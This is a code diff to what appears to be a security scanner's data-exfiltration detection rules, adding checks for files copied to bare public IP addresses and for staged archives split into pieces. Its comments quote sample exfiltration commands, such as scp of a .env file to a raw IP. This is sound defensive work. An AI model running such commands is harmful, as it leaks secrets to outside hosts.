@@ -3,7 +3,7 @@
  * move bytes (HTTP clients, raw sockets, file-transfer and cloud-sync tools, DNS and ICMP), archived from places that
  * hold secrets, or encrypted with a password given on the command line.
  */
-import { excerpt, FILE_DROP_HOST, isAuthenticationValue, isIpLiteral, isLoopback, isPublicIp, isTempPath, remoteCopyHost, SECRET_FILE, SENSITIVE_FILE, urlsIn } from '../patterns.js';
+import { excerpt, FILE_DROP_HOST, isAuthenticationValue, isDisguisedDrop, isIpLiteral, isLoopback, isPublicIp, isTempPath, remoteCopyHost, SECRET_FILE, SENSITIVE_FILE, urlsIn } from '../patterns.js';
 import { invocationsOf, type Subject } from '../subject.js';
 import { networkRelays } from './reverse-shell.js';
 import type { Evidence } from '../types.js';
@@ -196,6 +196,38 @@ const directoryServed: Rule = {
   },
 };
 
+/**
+ * `scp -P 2222 ./.env backup@91.219.236.40:/srv/`, `rsync -a /data u@203.0.113.9:/x`: local files pushed to a host
+ * known only by an internet address (T1048). Cloud machines are reached that way too, so it is low.
+ */
+const pushedToBareAddress: Rule = {
+  name: 'files-pushed-to-bare-address',
+  category: 'data_exfiltration',
+  severity: 'low',
+  techniques: ['T1048'],
+  match: (s): Evidence | undefined => {
+    for (const inv of invocationsOf(s, 'scp', 'rsync', 'pscp', 'sftp')) {
+      const operands = inv.args.filter((a, i) => !a.startsWith('-') && !/^-[PiFeoSl]$/.test(inv.args[i - 1] ?? ''));
+      const destination = remoteCopyHost(operands[operands.length - 1] ?? '');
+      const local = operands.slice(0, -1).some((a) => remoteCopyHost(a) === undefined);
+      if (destination !== undefined && isPublicIp(destination) && local) return { tool: inv.program, destination };
+    }
+    return undefined;
+  },
+};
+
+/** `split -b 5M /var/tmp/.x/a.tgz /var/tmp/.x/c.`: an archive staged in a drop location cut into pieces small enough to slip out. */
+const archiveSplit: Rule = {
+  name: 'staged-archive-split',
+  category: 'data_exfiltration',
+  severity: 'medium',
+  techniques: ['T1030', 'T1074.001'],
+  match: (s): Evidence | undefined => {
+    const split = invocationsOf(s, 'split').find((inv) => inv.args.some((a) => isDisguisedDrop(a) && /\.(?:t?gz|tar|zip|7z|xz|bz2|zst)$/.test(a)));
+    return split ? { tool: 'split', archive: split.args.find((a) => isDisguisedDrop(a)) ?? '' } : undefined;
+  },
+};
+
 /** `openssl enc -pass pass:...`, `zip -P`, `7z -p...`, `gpg --passphrase`: data encrypted with a password on the command line before it leaves. */
 const encryptWithInlinePassword: Rule = {
   name: 'encrypt-with-inline-password',
@@ -286,5 +318,5 @@ function pipedArchive(s: Subject, pipedFrom: boolean): string | undefined {
 }
 
 export const DATA_EXFILTRATION_RULES: readonly Rule[] = [
-  covertChannel, fileToRawSocket, httpUpload, sensitiveFileSent, archiveToStream, cloudSync, rootFilesystemServed, directoryServed, dataPosted, encryptWithInlinePassword,
+  covertChannel, fileToRawSocket, httpUpload, sensitiveFileSent, archiveToStream, cloudSync, rootFilesystemServed, directoryServed, pushedToBareAddress, archiveSplit, dataPosted, encryptWithInlinePassword,
 ];
